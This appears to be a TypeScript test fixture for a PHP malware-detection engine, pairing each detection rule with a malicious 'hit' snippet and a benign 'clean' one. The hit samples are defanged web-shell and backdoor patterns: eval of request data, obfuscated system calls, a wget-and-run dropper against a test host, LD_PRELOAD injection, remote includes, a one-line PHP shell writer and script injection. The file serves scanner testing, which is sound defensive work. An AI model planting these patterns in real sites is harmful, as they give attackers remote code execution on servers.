import { taintRule } from '../../../../src/engine/php/watch/taintRule.ts'
import type { Sample } from './samples.ts'

const packed = Buffer.from("echo 'hf_test';").toString('base64')
const packedPage = Buffer.from("<?php echo 'hf_test';").toString('base64')

const { raw } = String

export const taintSamples: readonly Sample[] = [
  {
    rule: taintRule.codeOfRequest,
    hit: "e~val($_PO~ST['hf_test']);",
    clean: "$id = (int) $_PO~ST['id']; e~val('return ' . $id . ';');",
  },
  {
    rule: taintRule.codeOfRequest,
    hit: "@as~sert(base64_d~ecode($_COO~KIE['hf_test']));",
    clean: 'as~sert($x !== null);',
  },
  {
    rule: taintRule.codeOfRemote,
    hit: "e~val(file_get_contents('http://hf.test/a.txt'));",
    clean: "echo strlen(file_get_contents('http://hf.test/a.txt'));",
  },
  {
    rule: taintRule.codeOfHidden,
    hit: "e~val(base64_d~ecode(get_option('hf_test')));",
    clean: "echo base64_d~ecode(get_option('hf_test'));",
  },
  {
    rule: taintRule.codeUnpacked,
    hit: `e~val(base64_d~ecode('${packed}'));`,
    clean: `echo base64_d~ecode('${packed}');`,
  },
  {
    rule: taintRule.codeUndecodable,
    hit: 'function hf($a) { e~val(gzinf~late(base64_d~ecode($a))); }',
    clean: 'function hf($a) { return gzinf~late(base64_d~ecode($a)); }',
  },
  {
    rule: taintRule.codeOfPicture,
    hit: "$e = exif_r~ead_data('hf.jpg'); e~val($e['Model']);",
    clean: "$e = exif_r~ead_data('hf.jpg'); echo $e['Model'];",
  },
  {
    rule: taintRule.codeEscaped,
    hit: raw`e~val("\x65\x63\x68\x6f\x20\x31\x3b");`,
    clean: raw`echo "\x1b[0m";`,
  },
  {
    rule: taintRule.patternOfRequest,
    hit: "preg_r~eplace($_PO~ST['a'], $_PO~ST['b'], $_PO~ST['c']);",
    clean: "preg_r~eplace('/a/', 'b', $_PO~ST['c']);",
  },
  {
    rule: taintRule.commandOfRequest,
    hit: "sys~tem($_G~ET['hf_test']);",
    clean: "sys~tem('ls ' . escapeshellarg($_G~ET['hf_test']));",
  },
  { rule: taintRule.commandOfRequest, hit: 'echo `{$_G~ET[0]}`;', clean: 'echo `date`;' },
  {
    rule: taintRule.commandOfRemote,
    hit: "shell_e~xec(file_get_contents('http://hf.test/a'));",
    clean: "shell_e~xec('uptime');",
  },
  {
    rule: taintRule.commandHidden,
    hit: `sys~tem(base64_d~ecode('${Buffer.from('id').toString('base64')}'));`,
    clean: "sys~tem('id');",
  },
  {
    rule: taintRule.commandDropper,
    hit: "exec('cd /tmp; wget http://hf.test/a.pl; perl a.pl; chmod 777 a');",
    clean: "exec('wget --version');",
  },
  { rule: taintRule.preload, hit: "put~env('LD_PRE~LOAD=/tmp/hf.so');", clean: "put~env('LC_ALL=C');" },
  {
    rule: taintRule.callOfRequest,
    hit: "$_G~ET['f']($_G~ET['x']);",
    clean: "$map = ['a' => 'trim']; $f = $map['a']; $f($_G~ET['x']);",
  },
  {
    rule: taintRule.callDecodedOfRequest,
    hit: "function hf($k) { $f = base64_d~ecode($k); $f($_PO~ST['x']); }",
    clean: 'function hf($k) { $f = base64_d~ecode($k); return $f; }',
  },
  {
    rule: taintRule.callObfuscated,
    hit: raw`$f = "\x73\x79\x73\x74\x65\x6d"; $f('id');`,
    clean: "$f = 'trim'; $f('id');",
  },
  {
    rule: taintRule.callObfuscated,
    hit: "$a = 'metsys'; $f = strrev($a); $f('id');",
    clean: "$a = 'mirt'; $f = strrev($a); $f('id');",
  },
  {
    rule: taintRule.callDecoded,
    hit: 'function hf($k) { $f = base64_d~ecode($k); $f(1); }',
    clean: 'function hf($k) { $f = trim($k); $f(1); }',
  },
  {
    rule: taintRule.toolObfuscated,
    hit: raw`$f = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65"; echo $f($x);`,
    clean: "$f = 'strtolower'; echo $f($x);",
  },
  {
    rule: taintRule.codeOfSelf,
    hit: 'function hf($n) { e~val(gzinf~late(base64_d~ecode(substr(file_get_contents(__FILE__), $n)))); }',
    clean: 'function hf($n) { return substr(file_get_contents(__FILE__), $n); }',
  },
  {
    rule: taintRule.callbackOfRequest,
    hit: "call_user~_func($_G~ET['f'], $_G~ET['x']);",
    clean: "call_user~_func('hf_test', $_G~ET['x']);",
  },
  {
    rule: taintRule.callbackRunsRequest,
    hit: "array_m~ap('as~sert', array($_PO~ST['x']));",
    clean: "array_m~ap('trim', array($_PO~ST['x']));",
  },
  {
    rule: taintRule.callbackObfuscated,
    hit: "$f = str_rot13('nffreg'); usort($a, $f);",
    clean: "$f = 'strcmp'; usort($a, $f);",
  },
  {
    rule: taintRule.outputRunner,
    hit: "ob_st~art('sys~tem'); echo 'id';",
    clean: "ob_st~art('ob_gzhandler'); echo 'id';",
  },
  {
    rule: taintRule.callbackRunsText,
    hit: "function hf($c) { register_shut~down_function('as~sert', $c); }",
    clean: "function hf($c) { register_shut~down_function('hf_end', $c); }",
  },
  { rule: taintRule.includeRemote, hit: "inc~lude 'http://hf.test/a.txt';", clean: "inc~lude 'a.php';" },
  {
    rule: taintRule.includeUpload,
    hit: "inc~lude $_FIL~ES['f']['tmp_name'];",
    clean: "echo $_FIL~ES['f']['tmp_name'];",
  },
  {
    rule: taintRule.includeEscaped,
    hit: raw`@inc~lude "\x2fhome\x2fa\x2f.hf.ic\x6f";`,
    clean: "inc~lude '/home/a/hf.php';",
  },
  {
    rule: taintRule.includeData,
    hit: `inc~lude 'data:text/plain;base64,${packedPage}';`,
    clean: "inc~lude __DIR__ . '/data.php';",
  },
  {
    rule: taintRule.includeHiddenPicture,
    hit: "inc~lude '/srv/www/.favicon_1.ico';",
    clean: "inc~lude '/srv/www/logo.svg';",
  },
  {
    rule: taintRule.includeOfOneRequest,
    hit: "@inc~lude($_G~ET['hf_test']);",
    clean: "$p = basename($_G~ET['p']); if (in_array($p, ['a', 'b'], true)) { inc~lude 'a.php'; }",
  },
  {
    rule: taintRule.includeWritten,
    hit: "file_put_c~ontents('/tmp/a.tmp', $_PO~ST['x']); inc~lude '/tmp/a.tmp';",
    clean: "file_put_c~ontents('/tmp/a.log', $_PO~ST['x']); inc~lude 'b.php';",
  },
  {
    rule: taintRule.writeRemoteCode,
    hit: "file_put_c~ontents('hf.php', file_get_contents('https://hf.test/a.txt'));",
    clean: "file_put_c~ontents('hf.zip', file_get_contents('https://hf.test/a.zip'));",
  },
  {
    rule: taintRule.writeUnpackedCode,
    hit: `file_put_c~ontents('hf.php', base64_d~ecode('${packedPage}'));`,
    clean: "file_put_c~ontents('hf.php', '<?php return [];');",
  },
  {
    rule: taintRule.writeShell,
    hit: "$h = fopen('hf.php', 'w'); fwrite($h, '<?php @ev~al($_PO~ST[1]);');",
    clean: "$h = fopen('hf.php', 'w'); fwrite($h, '<?php $a = 1;');",
  },
  {
    rule: taintRule.writeOfOneRequest,
    hit: "file_put_c~ontents($_PO~ST['n'], $_PO~ST['c']);",
    clean: "file_put_c~ontents('guests.txt', $_PO~ST['c']);",
  },
  {
    rule: taintRule.writeMarkup,
    hit: "$p = 'index.php'; $c = file_get_contents($p); file_put_c~ontents($p, '<scr~ipt src=//hf.test/a.js></script>' . $c);",
    clean: "$p = 'index.txt'; $c = file_get_contents($p); file_put_c~ontents($p, 'head ' . $c);",
  },
  {
    rule: taintRule.writeLockOut,
    hit: raw`file_put_c~ontents('.htaccess', "<FilesMatch '.(py|php)$'>\nDeny from all\n</FilesMatch>\n<FilesMatch '^hf.php$'>\nAllow from all\n</FilesMatch>");`,
    clean: raw`file_put_c~ontents('.htaccess', "<FilesMatch '.(py|php)$'>\nDeny from all\n</FilesMatch>");`,
  },
]
